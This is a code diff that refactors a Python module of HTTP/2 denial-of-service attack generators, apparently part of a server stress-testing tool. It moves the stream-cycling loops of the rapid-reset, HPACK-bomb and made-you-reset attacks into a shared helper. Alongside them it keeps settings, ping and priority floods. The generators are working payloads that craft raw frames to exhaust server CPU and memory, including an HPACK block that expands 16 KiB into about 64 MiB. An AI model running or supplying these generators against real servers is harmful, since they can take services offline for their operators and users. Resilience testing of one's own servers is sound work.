@@ -222,6 +222,21 @@ def settings_flood(connection: Connection):
     return b"", SettingsFrame(0).serialize() * (CHUNK // 9)
 
 
+def stream_after_stream(first_stream: int, frames_for):
+    """The next CHUNK of an attack that opens a new stream each time: frames_for(stream_id)'s
+    bytes for stream first_stream, then the next odd id, until CHUNK bytes are ready."""
+    state = {"next": first_stream}
+
+    def more():
+        out = bytearray()
+        while len(out) < CHUNK:
+            out += frames_for(state["next"])
+            state["next"] += 2
+        return bytes(out)
+
+    return more
+
+
 def ping_flood(connection: Connection):
     """PING frames, never reading the ACKs (CVE-2019-9512)."""
     return b"", PingFrame(0, opaque_data=b"askfirst").serialize() * (CHUNK // 17)
@@ -233,39 +248,23 @@ def rapid_reset(connection: Connection):
     fields = base_fields("/rapid-reset")
     first = connection.headers(1, fields) + RstStreamFrame(1, error_code=CANCEL).serialize()
     block = connection.encoder.encode(fields)  # every field now indexed: the same bytes each time
-    state = {"next": 3}
-
-    def more():
-        out = bytearray()
-        while len(out) < CHUNK:
-            stream_id = state["next"]
-            state["next"] += 2
-            out += frame_header(len(block), 0x1, 0x5, stream_id) + block  # HEADERS, END_STREAM|END_HEADERS
-            out += frame_header(4, 0x3, 0, stream_id) + struct.pack(">I", CANCEL)  # RST_STREAM
-        return bytes(out)
-
-    return first, more
+    return first, stream_after_stream(3, lambda stream_id: (
+        frame_header(len(block), 0x1, 0x5, stream_id) + block  # HEADERS, END_STREAM|END_HEADERS
+        + frame_header(4, 0x3, 0, stream_id) + struct.pack(">I", CANCEL)))  # RST_STREAM
 
 
 def hpack_bomb(connection: Connection):
     """One 3900-byte field indexed once, then referenced by one byte (index 62, the newest entry)
     16 K times per HEADERS frame: each 16 KiB frame decodes to ~64 MiB of header fields
     (CVE-2016-6581's shape); a new stream each time."""
-    state = {"next": 1}
     bomb = ("x-bomb", "b" * 3900)
 
-    def more():
-        out = bytearray()
-        while len(out) < CHUNK:
-            stream_id = state["next"]
-            state["next"] += 2
-            fields = base_fields("/hpack-bomb") + ([bomb] if stream_id == 1 else [])
-            block = connection.encoder.encode(fields)
-            block += b"\xbe" * (16 * 1024 - len(block))  # indexed field 62: x-bomb
-            out += connection.headers(stream_id, None, raw_block=block)
-        return bytes(out)
+    def frames(stream_id):
+        block = connection.encoder.encode(base_fields("/hpack-bomb") + ([bomb] if stream_id == 1 else []))
+        block += b"\xbe" * (16 * 1024 - len(block))  # indexed field 62: x-bomb
+        return connection.headers(stream_id, None, raw_block=block)
 
-    return b"", more
+    return b"", stream_after_stream(1, frames)
 
 
 def empty_data_flood(connection: Connection):
@@ -283,18 +282,9 @@ def made_you_reset(connection: Connection):
     first = connection.headers(1, fields, end_stream=False)
     block = connection.encoder.encode(fields)  # every field now indexed: the same bytes each time
     first += frame_header(2, 0x0, 0x1, 1) + b"ab"
-    state = {"next": 3}
-
-    def more():
-        out = bytearray()
-        while len(out) < CHUNK:
-            stream_id = state["next"]
-            state["next"] += 2
-            out += frame_header(len(block), 0x1, 0x4, stream_id) + block  # HEADERS, END_HEADERS
-            out += frame_header(2, 0x0, 0x1, stream_id) + b"ab"  # DATA, END_STREAM: 2 bytes, not 1
-        return bytes(out)
-
-    return first, more
+    return first, stream_after_stream(3, lambda stream_id: (
+        frame_header(len(block), 0x1, 0x4, stream_id) + block  # HEADERS, END_HEADERS
+        + frame_header(2, 0x0, 0x1, stream_id) + b"ab"))  # DATA, END_STREAM: 2 bytes, not 1
 
 
 def priority_flood(connection: Connection):
